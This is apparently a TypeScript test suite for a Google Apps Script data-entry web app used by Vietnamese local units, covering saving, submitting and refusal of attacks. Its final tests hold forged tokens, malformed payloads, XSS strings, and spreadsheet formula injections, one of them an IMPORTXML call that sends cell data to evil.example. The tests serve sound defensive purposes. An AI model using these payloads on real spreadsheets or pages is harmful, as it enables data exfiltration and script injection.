/**
 * The entry page's server calls on the in-memory Apps Script, as a web app runs them (as the office, for an
 * anonymous visitor): what a unit sees, what a save writes and costs, and every attack of issue 16 refused with
 * nothing written.
 */
import { ENTRY_PAGE_TEXT } from '../../src/core/entryPage/messages';
import type { Boot, SaveReply } from '../../src/core/entryPage/replies';
import { LIMITS } from '../../src/core/entryPage/request';
import { LOG_ACTIONS } from '../../src/core/sheet/log';
import { TABS } from '../../src/core/sheet/schema';
import { openPage, savePage, submitPage } from '../../src/gas/entryPage/server';
import { rotateLink } from '../../src/gas/entryPage/store';
import { verifyIntegrity } from '../../src/gas/sheet/integrity';
import { reviewUnit } from '../../src/gas/submission';
import {
  asMenu,
  cellOf,
  completeUnit,
  d,
  logRecords,
  makeWorld,
  mirrorOf,
  rowKeysOf,
  STAFF,
  VHXH,
  valueAt,
  vn,
  type World,
} from '../submission/world';
import { fromPage, sheetState, tokenFor } from './helpers';

let w: World;
afterEach(() => w?.done());

const open = (token: unknown) => fromPage(w, () => openPage(token));
const save = (token: unknown, request: unknown) => fromPage(w, () => savePage(token, request));
const submit = (token: unknown, id: unknown) => fromPage(w, () => submitPage(token, id));
const row = (kind: string, id: string, values: Record<string, string>, base: Record<string, string> | null = null) => ({
  kind,
  rows: [{ id, values, ...(base ? { base } : {}) }],
});
const formulaAt = (tab: 'indicators' | 'tasks' | 'issues', key: string, column: string) => {
  const c = cellOf(w.fake, tab, key, column);
  return w.fake.spreadsheet.formulas(TABS[tab].name)[c.row - 1][c.column - 1];
};
const noteAt = (tab: 'indicators' | 'tasks', key: string, column: string) => {
  const c = cellOf(w.fake, tab, key, column);
  return w.fake.spreadsheet.notes(TABS[tab].name)[c.row - 1][c.column - 1];
};
const ok = (reply: SaveReply) => {
  if (!reply.ok) throw new Error(reply.message);
  return reply;
};

describe('opening the page', () => {
  test("the unit's own rows as cards, with the fields of the schema's input columns and the sheet's verdict", () => {
    w = makeWorld(vn(d(25, 11), 8));
    const boot = open(tokenFor(w, 'CA'));
    if (!boot.ok) throw new Error(boot.message);
    const { model } = boot;
    expect(model.unit).toEqual({ id: 'CA', name: 'Công an phường' });
    const ids = model.cards.map((c) => c.id);
    expect(ids.filter((id) => id !== 'CA').every((id) => id.endsWith('@CA'))).toBe(true);
    expect(ids).toEqual([...rowKeysOf(w.fake, 'indicators', 'CA'), ...rowKeysOf(w.fake, 'tasks', 'CA'), 'CA']);
    const indicator = model.cards.find((c) => c.kind === 'indicator')!;
    // Every input column of the schema, "Kết quả nổi bật" included since the report's issue added it.
    expect(indicator.fields.map((f) => [f.key, f.label, f.kind])).toEqual([
      ['result', 'Kết quả năm báo cáo', 'line'],
      ['evidence', 'Giải trình, minh chứng', 'text'],
      ['highlight', 'Kết quả nổi bật (đưa vào báo cáo)', 'text'],
    ]);
    expect(indicator.facts.map((f) => f.label)).toContain(ENTRY_PAGE_TEXT.target);
    expect(indicator.preview.label).toBe('Chưa báo cáo');
    const task = model.cards.find((c) => c.kind === 'task')!;
    expect(task.fields.map((f) => f.key)).toEqual(['status', 'completedOn', 'result', 'evidence', 'highlight']);
    expect(task.fields[0].choices).toEqual(['Hoàn thành', 'Đang thực hiện', 'Chưa thực hiện']);
    expect(model.cards.at(-1)!.fields.map((f) => f.key)).toEqual(['difficulties', 'proposals', 'nextYear']);
    expect(model.state.code).toBe('OPEN');
    expect(model.editable).toBe(true);
    expect(model.draftKey).toMatch(/^[0-9a-f]{24}$/);
    expect(model.draftKey).not.toContain(model.token);
  });

  test("last year's result (the sheet's Kết quả năm trước, kept from Lịch sử) is on the indicator's card", () => {
    w = makeWorld(vn(d(25, 11), 8));
    const key = rowKeysOf(w.fake, 'indicators', 'CA')[0];
    const c = cellOf(w.fake, 'indicators', key, 'previousResult');
    w.fake.run(
      () =>
        SpreadsheetApp.getActiveSpreadsheet().getSheetByName(TABS.indicators.name)!.getRange(c.a1).setValue('97,5%'),
      {
        as: VHXH,
      },
    );
    const boot = open(tokenFor(w, 'CA'));
    if (!boot.ok) throw new Error(boot.message);
    expect(boot.model.cards.find((card) => card.id === key)!.lastYear).toBe('97,5%');
    expect(
      boot.model.cards
        .filter((card) => card.kind === 'indicator' && card.id !== key)
        .every((card) => card.lastYear === null),
    ).toBe(true);
  });

  test('a bad, old or replaced link opens nothing and says why, in Vietnamese', () => {
    w = makeWorld(vn(d(25, 11), 8));
    const token = tokenFor(w, 'CA');
    const old = tokenFor(w, 'CA', 2025);
    const expectRefusal = (boot: Boot, message: string) => expect(boot).toEqual({ ok: false, message });
    expectRefusal(open(undefined), ENTRY_PAGE_TEXT.token.missing);
    expectRefusal(open(token.slice(0, -3)), ENTRY_PAGE_TEXT.token.malformed);
    expectRefusal(open(`${token.slice(0, -1)}${token.endsWith('A') ? 'B' : 'A'}`), ENTRY_PAGE_TEXT.token.forged);
    expectRefusal(open(old), ENTRY_PAGE_TEXT.token.otherYear(2025, 2026));
    w.fake.run(() => rotateLink('CA'), { as: VHXH });
    expectRefusal(open(token), ENTRY_PAGE_TEXT.token.rotated);
    expect(open(tokenFor(w, 'CA')).ok).toBe(true);
  });
});

describe('saving', () => {
  test('a result is written as typed, judged as the sheet judges it, noted and logged, in 10 Spreadsheet calls', () => {
    w = makeWorld(vn(d(25, 11), 8));
    const token = tokenFor(w, 'CA');
    const id = rowKeysOf(w.fake, 'indicators', 'CA')[0];
    w.fake.counter.reset();
    const reply = ok(save(token, row('indicator', id, { result: '82.54%', evidence: 'Báo cáo số 12/BC-CAP' })));
    expect(w.fake.counter.spreadsheetCalls()).toBeLessThanOrEqual(10);
    expect(reply.results[0]).toMatchObject({ id, status: 'saved', values: { result: '82.54%' } });
    expect(valueAt(w.fake, 'indicators', id, 'result')).toBe('82.54%');
    expect(valueAt(w.fake, 'indicators', id, 'evidence')).toBe('Báo cáo số 12/BC-CAP');
    // The note and the verdict the sheet's onEdit would give for the same text.
    expect(noteAt('indicators', id, 'result')).toMatch(/82,54%/);
    expect(reply.results[0].preview.problems[0].message).toBe(noteAt('indicators', id, 'result'));
    expect(valueAt(w.fake, 'indicators', id, 'verdict')).toBe(reply.results[0].preview.label);
    expect(valueAt(w.fake, 'indicators', id, 'updatedAt')).toEqual(vn(d(25, 11), 8));
    const log = logRecords(w.fake).at(-1)!;
    expect(log).toMatchObject({
      action: LOG_ACTIONS.entryPage,
      unitId: 'CA',
      target: `Chỉ tiêu!${id}`,
      user: ENTRY_PAGE_TEXT.save.who('CA'),
    });
    expect(String(log.newValue)).toContain('82.54%');
  });

  test("a save's Nhật ký row carries its check: the office's tamper check finds nothing", () => {
    w = makeWorld(vn(d(25, 11), 8));
    const token = tokenFor(w, 'CA');
    const id = rowKeysOf(w.fake, 'indicators', 'CA')[0];
    const tampered = () =>
      w.fake.run(() => verifyIntegrity(w.fake.spreadsheet.api, { protections: false }), { as: VHXH });
    expect(tampered()).toEqual([]);
    ok(save(token, row('indicator', id, { result: '82.54%' })));
    expect(logRecords(w.fake).at(-1)).toMatchObject({ action: LOG_ACTIONS.entryPage, target: `Chỉ tiêu!${id}` });
    expect(tampered()).toEqual([]);
  });

  test('the same calls for 10 and for 10,000 rows', () => {
    const calls = (extraRows: number) => {
      w = makeWorld(vn(d(25, 11), 8));
      const sheet = w.fake.spreadsheet.api.getSheetByName(TABS.indicators.name)!;
      if (extraRows) {
        const header = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0];
        const key = header.indexOf('Mã dòng');
        const name = header.indexOf('Chỉ tiêu');
        const rows = Array.from({ length: extraRows }, (_, i) =>
          header.map((_h, c) => (c === key ? `X-${i}@KTHTDT` : c === name ? `Chỉ tiêu thêm ${i}` : '')),
        );
        sheet.insertRowsAfter(sheet.getMaxRows(), extraRows);
        sheet.getRange(sheet.getLastRow() + 1, 1, rows.length, header.length).setValues(rows);
      }
      const token = tokenFor(w, 'CA');
      const id = rowKeysOf(w.fake, 'indicators', 'CA').at(-1)!;
      w.fake.counter.reset();
      ok(save(token, row('indicator', id, { result: '95%' })));
      const count = w.fake.counter.spreadsheetCalls();
      w.done();
      return count;
    };
    const small = calls(10);
    const large = calls(10_000);
    expect(small).toBeLessThanOrEqual(10);
    expect(large).toBe(small);
  });

  test('unchanged values write nothing; a cell changed elsewhere since the page loaded is not overwritten', () => {
    w = makeWorld(vn(d(25, 11), 8));
    const token = tokenFor(w, 'CA');
    const id = rowKeysOf(w.fake, 'indicators', 'CA')[0];
    ok(save(token, row('indicator', id, { result: '90%' })));
    const before = sheetState(w.fake);
    expect(ok(save(token, row('indicator', id, { result: '90%' }, { result: '90%' }))).results[0].status).toBe(
      'unchanged',
    );
    expect(sheetState(w.fake)).toBe(before);
    // The office corrects the cell in the sheet; the page still has the old value as its base.
    const c = cellOf(w.fake, 'indicators', id, 'result');
    w.fake.spreadsheet.api.getSheetByName(TABS.indicators.name)!.getRange(c.row, c.column).setValue('91%');
    const after = sheetState(w.fake);
    const reply = ok(save(token, row('indicator', id, { result: '95%' }, { result: '90%' })));
    expect(reply.results[0]).toMatchObject({ status: 'conflict', conflicts: ['result'], values: { result: '91%' } });
    expect(sheetState(w.fake)).toBe(after);
  });

  test('after approval the page writes nothing; after submitting, entries are logged as such', () => {
    w = makeWorld(vn(d(25, 11), 8));
    completeUnit(w, 'CA');
    const token = tokenFor(w, 'CA');
    const id = rowKeysOf(w.fake, 'indicators', 'CA')[0];
    expect(submit(token, 'request-0001')).toMatchObject({ ok: true, already: false });
    ok(save(token, row('indicator', id, { result: '99%' })));
    expect(String(logRecords(w.fake).at(-1)!.detail)).toContain(ENTRY_PAGE_TEXT.save.afterSubmit);
    asMenu(w, VHXH, () => reviewUnit('CA', 'approve', '', new Date()));
    const before = sheetState(w.fake);
    const reply = save(token, row('indicator', id, { result: '10%' }));
    expect(reply).toMatchObject({ ok: false, nothingWritten: true });
    expect(sheetState(w.fake)).toBe(before);
    const boot = open(token);
    expect(boot.ok && boot.model.editable).toBe(false);
  });
});

describe('submitting', () => {
  test("refused with the sheet's list, each item pointing at its card; accepted once complete; answered once", () => {
    w = makeWorld(vn(d(25, 11), 8));
    const token = tokenFor(w, 'CA');
    const refused = submit(token, 'request-0001');
    if (refused.ok) throw new Error('submitted an empty report');
    expect(refused.message).toMatch(/^Chưa thể gửi báo cáo: còn \d+ mục/);
    const ids = new Set([...rowKeysOf(w.fake, 'indicators', 'CA'), ...rowKeysOf(w.fake, 'tasks', 'CA')]);
    expect(refused.items.length).toBeGreaterThan(5);
    expect(refused.items.every((i) => i.cardId !== null && ids.has(i.cardId))).toBe(true);
    expect(mirrorOf(w.fake, 'CA').submit).toBe(false);

    completeUnit(w, 'CA');
    const done = submit(token, 'request-0002');
    expect(done).toMatchObject({ ok: true, already: false, state: { code: 'SUBMITTED' } });
    expect(mirrorOf(w.fake, 'CA')).toMatchObject({ submit: true, submittedBy: 'Trang nhập liệu - Công an phường' });
    const submittedAt = mirrorOf(w.fake, 'CA').submittedAt;

    // The same request again (a lost answer, a replay), or a new one: nothing is submitted twice.
    w.at(vn(d(26, 11), 9));
    expect(submit(token, 'request-0002')).toMatchObject({ ok: true, already: true });
    expect(submit(token, 'request-0003')).toMatchObject({ ok: true, already: true });
    expect(mirrorOf(w.fake, 'CA').submittedAt).toEqual(submittedAt);
    expect(logRecords(w.fake).filter((r) => r.action === LOG_ACTIONS.submit)).toHaveLength(1);

    // Returned by the office: replaying the old request does not submit the report again.
    asMenu(w, VHXH, () => reviewUnit('CA', 'return', 'Bổ sung minh chứng', new Date()));
    expect(submit(token, 'request-0002')).toMatchObject({ ok: true, already: true, state: { code: 'RETURNED' } });
    expect(mirrorOf(w.fake, 'CA').approval).toBe('Bị trả lại');
    expect(submit(token, 'request-0004')).toMatchObject({ ok: true, already: false, state: { code: 'SUBMITTED' } });
  });
});

describe('attacks: refused, nothing written', () => {
  const refusedWithNothingWritten = (call: () => unknown) => {
    const before = sheetState(w.fake);
    const props = JSON.stringify([...w.fake.properties.script]);
    const reply = call() as { ok: boolean; message: string };
    expect(reply.ok).toBe(false);
    expect(reply.message).toMatch(/[ạảãàáâậầấẩẫăắằặẳẵđêếềệểễôốồộổỗơớờợởỡưứừựửữ]/);
    expect(sheetState(w.fake)).toBe(before);
    expect(JSON.stringify([...w.fake.properties.script])).toBe(props);
    return reply;
  };

  test('forged, truncated, other-year and replaced tokens', () => {
    w = makeWorld(vn(d(25, 11), 8));
    const token = tokenFor(w, 'CA');
    const id = rowKeysOf(w.fake, 'indicators', 'CA')[0];
    const request = row('indicator', id, { result: '100%' });
    const kt = tokenFor(w, 'KTHTDT');
    const forged = `${token.slice(0, token.lastIndexOf('.'))}.${kt.slice(kt.lastIndexOf('.') + 1)}`;
    const old = tokenFor(w, 'CA', 2025);
    for (const bad of [forged, token.slice(0, -1), token.slice(0, 30), old, '', null, 42, { token }])
      refusedWithNothingWritten(() => save(bad, request));
    w.fake.run(() => rotateLink('CA'), { as: VHXH });
    expect(refusedWithNothingWritten(() => save(token, request)).message).toBe(ENTRY_PAGE_TEXT.token.rotated);
    refusedWithNothingWritten(() => submit(token, 'request-0001'));
  });

  test("row ids of another unit, group rows, other columns, another unit's Khó khăn row", () => {
    w = makeWorld(vn(d(25, 11), 8));
    const token = tokenFor(w, 'CA');
    const mine = rowKeysOf(w.fake, 'indicators', 'CA')[0];
    const theirs = rowKeysOf(w.fake, 'indicators', 'KTHTDT')[0];
    const theirTask = rowKeysOf(w.fake, 'tasks', 'KTHTDT')[0];
    const attempts: unknown[] = [
      row('indicator', theirs, { result: '0%' }),
      {
        kind: 'indicator',
        rows: [
          { id: mine, values: { result: '1%' } },
          { id: theirs, values: { result: '0%' } },
        ],
      },
      row('task', theirTask, { status: 'Hoàn thành' }),
      row('indicator', 'PL1-I', { result: '1%' }),
      row('indicator', mine.replace('@CA', '@CA '), { result: '1%' }),
      row('indicator', `${mine.split('@')[0]}@KTHTDT`, { result: '1%' }),
      row('task', mine, { status: 'Hoàn thành' }),
      row('issues', 'KTHTDT', { difficulties: 'x' }),
      row('indicator', mine, { verdict: 'Đạt' }),
      row('indicator', mine, { review: 'Đạt' }),
      row('indicator', mine, { rowKey: 'PL1-1.1@CA' }),
      row('indicator', mine, { name: 'Chỉ tiêu khác' }),
      row('indicator', mine, { updatedAt: '01/01/2020' }),
      row('indicator', mine, { result: '1%' }, { verdict: 'Đạt' }),
    ];
    for (const attempt of attempts) refusedWithNothingWritten(() => save(token, attempt));
  });

  test('oversized and malformed payloads', () => {
    w = makeWorld(vn(d(25, 11), 8));
    const token = tokenFor(w, 'CA');
    const ids = rowKeysOf(w.fake, 'indicators', 'CA');
    const id = ids[0];
    const big = 'ệ'.repeat(Math.ceil(LIMITS.fieldBytes / 3) + 1);
    const attempts: unknown[] = [
      null,
      undefined,
      [],
      'rows',
      42,
      {},
      { kind: 'indicator' },
      { kind: 'indicator', rows: [] },
      { kind: 'indicator', rows: 'x' },
      { kind: 'report', rows: [{ id, values: { result: '1%' } }] },
      { kind: 'indicator', rows: [null] },
      { kind: 'indicator', rows: [{ id, values: null }] },
      { kind: 'indicator', rows: [{ id, values: ['1%'] }] },
      { kind: 'indicator', rows: [{ id, values: { result: 1 } }] },
      { kind: 'indicator', rows: [{ id, values: { result: { toString: '1%' } } }] },
      { kind: 'indicator', rows: [{ id, values: { result: ['1%'] } }] },
      { kind: 'indicator', rows: [{ id, values: { result: null } }] },
      { kind: 'indicator', rows: [{ id: 7, values: { result: '1%' } }] },
      { kind: 'indicator', rows: [{ id: `${id}\n`, values: { result: '1%' } }] },
      { kind: 'indicator', rows: [{ id, values: JSON.parse('{"__proto__": "1%"}') }] },
      { kind: 'indicator', rows: [{ id, values: { constructor: '1%' } }] },
      { kind: 'indicator', rows: [{ id, values: { 'result; x': '1%' } }] },
      { kind: 'indicator', rows: [{ id, values: { result: '1%' }, base: 'x' }] },
      {
        kind: 'indicator',
        rows: [
          { id, values: { result: '1%' } },
          { id, values: { result: '2%' } },
        ],
      },
      row('indicator', id, { result: big }),
      row('indicator', id, { evidence: 'a'.repeat(LIMITS.fieldBytes + 1) }),
      {
        kind: 'indicator',
        rows: Array.from({ length: LIMITS.rowsPerSave + 1 }, (_, i) => ({ id: `${id}${i}`, values: { result: '1%' } })),
      },
      {
        kind: 'indicator',
        // Eleven fields of 20 KB: each within its cap, the request over its 200 KB.
        rows: Array.from({ length: 11 }, (_, i) => ({
          id: `${ids[0]}#${i}`,
          values: { evidence: 'x'.repeat(LIMITS.fieldBytes) },
        })),
      },
    ];
    for (const attempt of attempts) refusedWithNothingWritten(() => save(token, attempt));
    for (const bad of [undefined, '', 'short', 'x'.repeat(65), '<script>', 12345678])
      refusedWithNothingWritten(() => submit(token, bad));
  });

  test('HTML, script and formulas in every field are stored as the text typed, never as formulas', () => {
    w = makeWorld(vn(d(25, 11), 8));
    const token = tokenFor(w, 'CA');
    const hostile = [
      '=IMPORTXML("https://evil.example/?"&A1,"//a")',
      '=HYPERLINK("https://evil.example","Bấm vào đây")',
      '+SUM(1)',
      '@A1',
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '"><svg onload=alert(1)>',
      '</script><!--',
      '$& $1 $` $\x27',
    ];
    const indicator = rowKeysOf(w.fake, 'indicators', 'CA')[0];
    const task = rowKeysOf(w.fake, 'tasks', 'CA')[0];
    const fields: ['indicators' | 'tasks' | 'issues', string, string, string][] = [
      ['indicators', 'indicator', indicator, 'result'],
      ['indicators', 'indicator', indicator, 'evidence'],
      ['indicators', 'indicator', indicator, 'highlight'],
      ['tasks', 'task', task, 'status'],
      ['tasks', 'task', task, 'completedOn'],
      ['tasks', 'task', task, 'result'],
      ['tasks', 'task', task, 'evidence'],
      ['tasks', 'task', task, 'highlight'],
      ['issues', 'issues', 'CA', 'difficulties'],
      ['issues', 'issues', 'CA', 'proposals'],
      ['issues', 'issues', 'CA', 'nextYear'],
    ];
    for (const text of hostile) {
      for (const [tab, kind, id, column] of fields) {
        ok(save(token, row(kind, id, { [column]: text })));
        expect({ column, value: valueAt(w.fake, tab as never, id, column) }).toEqual({ column, value: text });
        expect(formulaAt(tab, id, column)).toBe('');
      }
      // The sheet's note on a result that looks like a formula or HTML, as onEdit would put it.
      if (/^[=<]/.test(text)) expect(noteAt('indicators', indicator, 'result')).toMatch(/công thức|HTML/);
    }
    // Nhật ký keeps the typed texts as text too.
    const log = w.fake.spreadsheet.formulas(TABS.log.name).flat().filter(Boolean);
    expect(log).toEqual([]);
    const boot = open(token);
    if (!boot.ok) throw new Error(boot.message);
    expect(boot.model.cards.find((c) => c.id === 'CA')!.fields[0].value).toBe(hostile.at(-1));
  });
});

test('the staff of a unit are not needed: nothing here ran as them', () => {
  w = makeWorld(vn(d(25, 11), 8));
  const token = tokenFor(w, 'CA');
  ok(save(token, row('indicator', rowKeysOf(w.fake, 'indicators', 'CA')[0], { result: '100%' })));
  const pageRuns = w.fake.executions.filter((e) => e.kind === 'webApp');
  expect(pageRuns.length).toBeGreaterThan(0);
  expect(pageRuns.every((e) => e.user === VHXH && !e.error)).toBe(true);
  expect(w.fake.executions.some((e) => e.user === STAFF.CA)).toBe(false);
});
